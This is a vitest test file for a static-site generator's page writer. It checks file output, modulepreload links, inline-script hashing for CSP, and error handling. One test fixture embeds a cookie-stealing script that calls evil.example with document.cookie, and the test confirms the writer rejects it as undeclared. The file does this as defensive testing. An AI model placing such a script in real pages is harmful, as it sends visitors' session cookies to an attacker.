import { link, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inlineScriptHashes, scriptHash } from '#builder/hosting/csp.ts';
import { createModuleGraph } from '#builder/generator/module-preload.ts';
import type { RenderFunction } from '#builder/generator/render-entry.ts';
import { type PageResult, pageWriter, renderJobs, writePageFile } from '#builder/generator/render-pages.ts';
import type { Site } from '#src/render/site.ts';

let work = '';
beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'render-pages-'));
});
afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

const site = { client: { cacheTags: (key: string) => [`tag of ${key}`] } } as unknown as Site;
const read = (key: string) => ({
  key,
  request: { locale: 'pl' as const, accept: 'json' as const, pathAndQuery: key },
  hash: 'h',
});

/**
 * A renderer as the generator sees it: /bad/ reports its error to the render context and renders an empty
 * 500, at once; the other pages report a read and answer slowly, as pages of a busy renderer do.
 */
const render: RenderFunction = async (request, locals) => {
  const { pathname } = new URL(request.url);
  if (pathname === '/bad/') {
    locals.render.onError?.(pathname, new Error('Invalid content: locale pl, resource products, id 7, field name'));
    return new Response('', { status: 500 });
  }
  locals.render.onReads?.(pathname, 'pl', [read(`/api${pathname}`)]);
  await new Promise((resolve) => setTimeout(resolve, 150));
  return new Response(`<html><head></head><body><p>${pathname}</p><script>go()</script></body></html>`, { status: 200 });
};

/** The inline scripts these pages' code declares. */
const declaredScripts = new Set(['go()', "alert('zażółć')"].map((script) => scriptHash(script)));

describe('pageWriter and renderJobs', () => {
  it('write each page as a file with what it read, its tags and its inline script hashes', async () => {
    const out = path.join(work, 'pages');
    const write = pageWriter({ render, declaredScripts, site, outDir: out, fresh: true });
    const results: PageResult[] = [];
    await renderJobs(
      [
        { path: '/a/', status: 200 },
        { path: '/b/c/', status: 200 },
      ],
      write,
      (r) => results.push(r),
    );
    expect(await readFile(path.join(out, 'b/c/index.html'), 'utf8')).toContain('<p>/b/c/</p>');
    const a = results.find((r) => r.path === '/a/');
    expect(a?.reads.map((r) => r.key)).toEqual(['/api/a/']);
    expect(a?.tags).toEqual([['/api/a/', ['tag of /api/a/']]]);
    expect(a?.scriptHashes).toHaveLength(1);
  });

  it('put an eager island’s modules before </head> and hash inline scripts, leaving every other byte as rendered', async () => {
    const page = `<html><head><title>Krzesło</title></head><body><script>alert('zażółć')</script><astro-island uid="1" component-url="/_astro/Search.js" renderer-url="/_astro/client.js" client="only"></astro-island></body></html>`;
    const modules = createModuleGraph(async (url) =>
      url === '/_astro/Search.js' ? 'import"./jsx.js";' : url === '/_astro/jsx.js' ? '' : null,
    );
    const out = path.join(work, 'preloads');
    const write = pageWriter({
      render: async () => new Response(page),
      declaredScripts,
      site,
      outDir: out,
      modules,
      fresh: true,
    });
    const result = await write({ path: '/szukaj/', status: 200 });
    const links = '<link rel="modulepreload" href="/_astro/Search.js"><link rel="modulepreload" href="/_astro/jsx.js">';
    expect(await readFile(path.join(out, 'szukaj/index.html'), 'utf8')).toBe(page.replace('</head>', `${links}</head>`));
    expect(result.scriptHashes).toEqual(inlineScriptHashes(page));
  });

  it('fail with the error the page reported, once every lane has stopped writing', async () => {
    const out = path.join(work, 'staging');
    const write = pageWriter({ render, declaredScripts, site, outDir: out });
    const jobs = [
      ...Array.from({ length: 6 }, (_, i) => ({ path: `/p${i}/`, status: 200 })),
      { path: '/bad/', status: 200 },
      ...Array.from({ length: 6 }, (_, i) => ({ path: `/q${i}/`, status: 200 })),
    ];
    await expect(renderJobs(jobs, write, () => {}, 4)).rejects.toThrow('Invalid content: locale pl, resource products');
    // Nothing is still being written: removing the staging tree now cannot race a lane (no ENOTEMPTY).
    const written = await readdir(out);
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(await readdir(out)).toEqual(written);
    await rm(out, { recursive: true });
  });

  it('fail on a page carrying an executable inline script the code does not declare, naming the page and the script', async () => {
    const smuggled = `<html><head></head><body><script>go()</script><div><script>fetch('//evil.example/'+document.cookie)</script></div><script type="application/ld+json">{}</script></body></html>`;
    const out = path.join(work, 'undeclared');
    const write = pageWriter({ render: async () => new Response(smuggled), declaredScripts, site, outDir: out, fresh: true });
    await expect(write({ path: '/aktualnosci/x/', status: 200 })).rejects.toThrow(
      `/aktualnosci/x/: an inline script the code does not declare ("fetch('//evil.example/'+document.cookie)")`,
    );
    // Nothing was written for it: the staging folder never holds the page.
    await expect(readFile(path.join(out, 'aktualnosci/x/index.html'))).rejects.toThrow();
    // Data scripts (JSON-LD) and declared ones pass.
    const clean = pageWriter({
      render: async () => new Response(smuggled.replace(/<div>.*<\/div>/, '')),
      declaredScripts,
      site,
      outDir: out,
      fresh: true,
    });
    expect((await clean({ path: '/aktualnosci/y/', status: 200 })).scriptHashes).toEqual([scriptHash('go()')]);
  });

  it('fail with the status when the page reported nothing', async () => {
    const write = pageWriter({ render, declaredScripts, site, outDir: path.join(work, 'status') });
    await expect(renderJobs([{ path: '/a/', status: 404 }], write, () => {})).rejects.toThrow(
      '/a/: rendered with status 200, expected 404',
    );
  });
});

describe('writePageFile', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'write-page-'));
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  it('overwrites a file of its own tree in place, cut to the new length, or creates it', async () => {
    const file = path.join(dir, 'own.html');
    writePageFile(file, new TextEncoder().encode('a much longer page than the next one'), true);
    const before = await stat(file);
    writePageFile(file, new TextEncoder().encode('short'), true);
    expect(await readFile(file, 'utf8')).toBe('short');
    expect((await stat(file)).ino).toBe(before.ino);
  });

  it('replaces a file a live tree shares through a new inode, leaving the shared one as it was', async () => {
    const live = path.join(dir, 'live.html');
    const staged = path.join(dir, 'staged.html');
    await writeFile(live, 'live page');
    await link(live, staged);
    writePageFile(staged, new TextEncoder().encode('new page'), false);
    expect(await readFile(staged, 'utf8')).toBe('new page');
    expect(await readFile(live, 'utf8')).toBe('live page');
    expect((await stat(staged)).ino).not.toBe((await stat(live)).ino);
    expect((await readdir(dir)).filter((name) => name.includes('.tmp-'))).toEqual([]);
  });

  it("makes the page's folders when they do not exist yet, in either mode", async () => {
    for (const fresh of [true, false]) {
      const file = path.join(dir, `new-${fresh}`, 'deep', 'index.html');
      writePageFile(file, new TextEncoder().encode(`page ${fresh}`), fresh);
      expect(await readFile(file, 'utf8')).toBe(`page ${fresh}`);
    }
  });
});
